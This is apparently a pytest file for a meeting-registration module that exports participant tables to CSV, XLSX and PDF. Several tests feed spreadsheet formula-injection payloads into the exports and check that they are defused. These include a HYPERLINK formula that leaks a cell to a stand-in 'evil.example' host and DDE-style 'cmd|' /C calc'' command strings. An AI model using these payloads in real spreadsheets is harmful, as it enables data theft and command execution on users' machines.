"""Tables as CSV, XLSX and PDF, read back with the csv module, openpyxl and PDFium."""

from __future__ import annotations

import csv
import datetime
import io
import warnings
from decimal import Decimal

import openpyxl
import pypdfium2 as pdfium
import pytest

from meetings.registration.participants.exports import (
    Table,
    TableGroup,
    neutralise_formula,
    to_csv,
    to_pdf,
    to_xlsx,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def delegations() -> Table:
    return Table(
        title="Участники — встреча старших должностных лиц",
        subtitle="Стамбул, 10–11 марта 2027",
        columns=("Имя", "Категория", "Телефон", "Возраст"),
        group_label="Делегация",
        groups=(
            TableGroup(
                "Азербайджан",
                (
                    ("Гулнара Абдуллаева", "Глава делегации", "+994 12 555 00 00", 41),
                    ("Rəşad Məmmədov", "Делегат", None, Decimal("37.5")),
                ),
            ),
            TableGroup("Türkiye", (("Ayşe Yılmaz", "Наблюдатель", "-", -3),)),
        ),
    )


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def page_texts(data: bytes) -> list[str]:
    document = pdfium.PdfDocument(data)
    try:
        return [page.get_textpage().get_text_range() for page in document]
    finally:
        document.close()


def test_csv_grouped_table_has_bom_group_column_and_rows() -> None:
    data = to_csv(delegations())

    assert data.startswith(b"\xef\xbb\xbf")
    assert read_csv(data) == [
        ["Делегация", "Имя", "Категория", "Телефон", "Возраст"],
        ["Азербайджан", "Гулнара Абдуллаева", "Глава делегации", "'+994 12 555 00 00", "41"],
        ["Азербайджан", "Rəşad Məmmədov", "Делегат", "", "37.5"],
        ["Türkiye", "Ayşe Yılmaz", "Наблюдатель", "-", "-3"],
    ]


def test_csv_ungrouped_table_has_no_group_column() -> None:
    table = Table.ungrouped(
        title="States", columns=("State", "Members"), rows=(("Türkiye", 3), ("Georgia", 2))
    )

    assert read_csv(to_csv(table)) == [["State", "Members"], ["Türkiye", "3"], ["Georgia", "2"]]


def test_csv_formula_cells_are_neutralised_and_numbers_left_alone() -> None:
    table = Table.ungrouped(
        title="Injected",
        columns=("Name", "Note", "Other", "Number"),
        rows=(
            (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", -12),
            ("\t=1+1", "\r=1+1", "-2+3", 1.5),
            ("-42", "+3.5", "plain = text", Decimal("-0.25")),
        ),
    )

    rows = read_csv(to_csv(table))

    assert rows[1:] == [
        ["'" + HYPERLINK, "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+1", "-12"],
        # A carriage return is a line break like any other: written as "\n", still guarded.
        ["'\t=1+1", "'\n=1+1", "'-2+3", "1.5"],
        ["-42", "+3.5", "plain = text", "-0.25"],
    ]


def test_csv_group_heading_and_header_are_neutralised_too() -> None:
    table = Table(
        title="t",
        columns=("=cmd()",),
        group_label="Group",
        groups=(TableGroup("=evil()", (("x",),)),),
    )

    assert read_csv(to_csv(table)) == [["Group", "'=cmd()"], ["'=evil()", "x"]]


def test_neutralise_formula_leaves_a_lone_dash() -> None:
    assert neutralise_formula("-") == "-"
    assert neutralise_formula("—") == "—"
    assert neutralise_formula("=") == "="


def test_table_row_of_wrong_length_is_refused() -> None:
    with pytest.raises(ValueError, match="3 cells in a table of 2 columns"):
        Table.ungrouped(title="t", columns=("a", "b"), rows=(("1", "2", "3"),))


def test_xlsx_has_bold_frozen_header_and_typed_rows() -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx(delegations())))
    sheet = workbook.active
    assert sheet is not None

    rows = list(sheet.iter_rows(values_only=True))

    assert rows == [
        ("Делегация", "Имя", "Категория", "Телефон", "Возраст"),
        ("Азербайджан", "Гулнара Абдуллаева", "Глава делегации", "'+994 12 555 00 00", 41),
        ("Азербайджан", "Rəşad Məmmədov", "Делегат", None, 37.5),
        ("Türkiye", "Ayşe Yılmaz", "Наблюдатель", "-", -3),
    ]
    assert all(cell.font.bold for cell in sheet[1])
    assert not sheet["B2"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E4"
    assert sheet.title == "Участники — встреча старших дол"
    assert workbook.properties.title == "Участники — встреча старших должностных лиц"


def test_xlsx_column_widths_follow_content() -> None:
    table = Table.ungrouped(
        title="Widths",
        columns=("No", "Function", "Remarks"),
        rows=((1, "Head of Unit, Ministry of Internal Affairs", "x" * 300),),
    )
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(table))).active
    assert sheet is not None

    widths = [sheet.column_dimensions[letter].width for letter in "ABC"]

    assert widths[0] < widths[1] < widths[2]
    assert widths[2] <= 61
    assert sheet["C2"].alignment.wrap_text


def test_xlsx_formula_cells_stay_text() -> None:
    table = Table.ungrouped(
        title="Injected", columns=("Name", "Number"), rows=((HYPERLINK, -5), ("-5", 2))
    )
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(table))).active
    assert sheet is not None

    assert sheet["A2"].value == "'" + HYPERLINK
    assert sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -5
    assert sheet["A3"].value == "-5"


def test_xlsx_urls_are_not_made_links() -> None:
    table = Table.ungrouped(title="t", columns=("Site",), rows=(("https://evil.example",),))
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(table))).active
    assert sheet is not None

    assert sheet["A2"].value == "https://evil.example"
    assert sheet["A2"].hyperlink is None


def test_pdf_table_has_title_group_headings_in_order_and_cyrillic() -> None:
    texts = page_texts(to_pdf(delegations()))

    assert len(texts) == 1
    text = texts[0]
    assert "Участники — встреча старших должностных лиц" in text
    assert "Стамбул, 10–11 марта 2027" in text
    assert text.index("Азербайджан") < text.index("Гулнара Абдуллаева") < text.index("Türkiye")
    assert text.index("Türkiye") < text.index("Ayşe Yılmaz")
    assert "Rəşad Məmmədov" in text
    assert "37.5" in text


def test_pdf_long_table_repeats_header_and_keeps_every_row() -> None:
    groups = tuple(
        TableGroup(
            f"Delegation {group:02d}",
            tuple((f"Person {group:02d}-{row:02d}", "Delegate", row) for row in range(20)),
        )
        for group in range(10)
    )
    table = Table(
        title="Participants",
        columns=("Participant name", "Category", "Seat"),
        groups=groups,
        group_label="Delegation",
    )

    texts = page_texts(to_pdf(table))

    assert len(texts) >= 3
    for text in texts:
        assert "Participant name" in text
        assert "Category" in text
    everything = "\n".join(texts)
    headings = [everything.index(f"Delegation {group:02d}") for group in range(10)]
    assert headings == sorted(headings)
    for group in range(10):
        for row in range(20):
            assert f"Person {group:02d}-{row:02d}" in everything


def test_pdf_long_cell_text_wraps_and_is_all_there() -> None:
    remark = " ".join(f"word{n}" for n in range(120))
    table = Table.ungrouped(
        title="Remarks", columns=("Name", "Remark"), rows=(("Ayşe Yılmaz", remark),)
    )

    text = " ".join(page_texts(to_pdf(table))[0].split())

    assert remark in text


@pytest.mark.parametrize("rows_per_group", [14, 18])
def test_pdf_group_heading_never_ends_a_page_without_its_rows(rows_per_group: int) -> None:
    # These sizes put a heading at the foot of a page when nothing keeps it with its rows.
    groups = tuple(
        TableGroup(
            f"Delegation {group:02d}",
            tuple(
                (f"Person {group:02d}-{row:02d}", "Delegate", row) for row in range(rows_per_group)
            ),
        )
        for group in range(12)
    )
    table = Table(
        title="Participants", columns=("Participant name", "Category", "Seat"), groups=groups
    )

    texts = page_texts(to_pdf(table))

    assert len(texts) > 1
    for text in texts[:-1]:
        last_line_before_footer = text.split("\r\n")[-2]
        assert not last_line_before_footer.startswith("Delegation"), text[-200:]


def test_xlsx_title_past_excels_header_limit_is_cut_not_dropped() -> None:
    title = "Budapest Process & partners: " + "😀" * 200
    table = Table.ungrouped(title=title, columns=("Name",), rows=(("x",),))
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        data = to_xlsx(table)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None

    header = sheet.oddHeader.center.text
    assert header is not None
    assert header.startswith("Budapest Process && partners: 😀")  # "&&" prints one "&"
    assert header.endswith("…")


def test_csv_cells_lose_control_characters_and_cannot_hide_a_formula_behind_one() -> None:
    table = Table.ungrouped(
        title="t", columns=("Name",), rows=(("\x00=cmd|' /C calc'!A0",), ("a\x07b\u202ec",))
    )

    assert read_csv(to_csv(table))[1:] == [["'=cmd|' /C calc'!A0"], ["abc"]]


def test_csv_headers_are_unique_and_moments_carry_their_offset() -> None:
    moment = datetime.datetime(2027, 3, 10, 6, 12, tzinfo=datetime.UTC)
    table = Table(
        title="T",
        columns=["Name", "Name", "Arrived", "Day"],
        groups=[TableGroup("Georgia", [["A", "B", moment, datetime.date(2027, 3, 10)]])],
        group_label="Name",
        time_zone="Europe/Istanbul",
    )
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    assert rows == [
        ["Name", "Name (2)", "Name (3)", "Arrived (Europe/Istanbul)", "Day"],
        ["Georgia", "A", "B", "2027-03-10T09:12+03:00", "2027-03-10"],
    ]


def test_xlsx_dates_are_date_cells_in_the_stated_zone() -> None:
    moment = datetime.datetime(2027, 3, 10, 6, 12, tzinfo=datetime.UTC)
    table = Table.ungrouped(
        title="T",
        columns=["Arrived", "Day"],
        rows=[[moment, datetime.date(2027, 3, 10)]],
        time_zone="Europe/Istanbul",
    )
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(table))).active
    assert sheet is not None
    assert sheet["A1"].value == "Arrived (Europe/Istanbul)"
    assert sheet["A2"].is_date
    # Excel's cells have no zone: the wall-clock time of Istanbul, as the header says.
    assert sheet["A2"].value == datetime.datetime(2027, 3, 10, 9, 12, tzinfo=datetime.UTC).replace(
        tzinfo=None
    )
    assert sheet["A2"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet["B2"].is_date
    assert sheet["B2"].value.date() == datetime.date(2027, 3, 10)


def arabic_table(*, right_to_left: bool) -> Table:
    return Table(
        title="قائمة المشاركين",
        columns=("الاسم", "الفئة"),
        group_label="الوفد",
        right_to_left=right_to_left,
        groups=(TableGroup("العراق", (("أحمد الحسني", "رئيس الوفد"),)),),
    )


def test_csv_keeps_arabic_intact_behind_a_bom() -> None:
    data = to_csv(arabic_table(right_to_left=True))
    assert data.startswith(b"\xef\xbb\xbf")
    assert read_csv(data) == [["الوفد", "الاسم", "الفئة"], ["العراق", "أحمد الحسني", "رئيس الوفد"]]


def test_xlsx_in_arabic_is_a_right_to_left_sheet_with_the_text_intact() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(arabic_table(right_to_left=True)))).active
    assert sheet is not None
    assert sheet.sheet_view.rightToLeft is True
    assert [c.value for c in sheet[2] if c.value in ("أحمد الحسني", "رئيس الوفد")] == [
        "أحمد الحسني",
        "رئيس الوفد",
    ]
    english = openpyxl.load_workbook(io.BytesIO(to_xlsx(delegations()))).active
    assert english is not None
    assert not english.sheet_view.rightToLeft
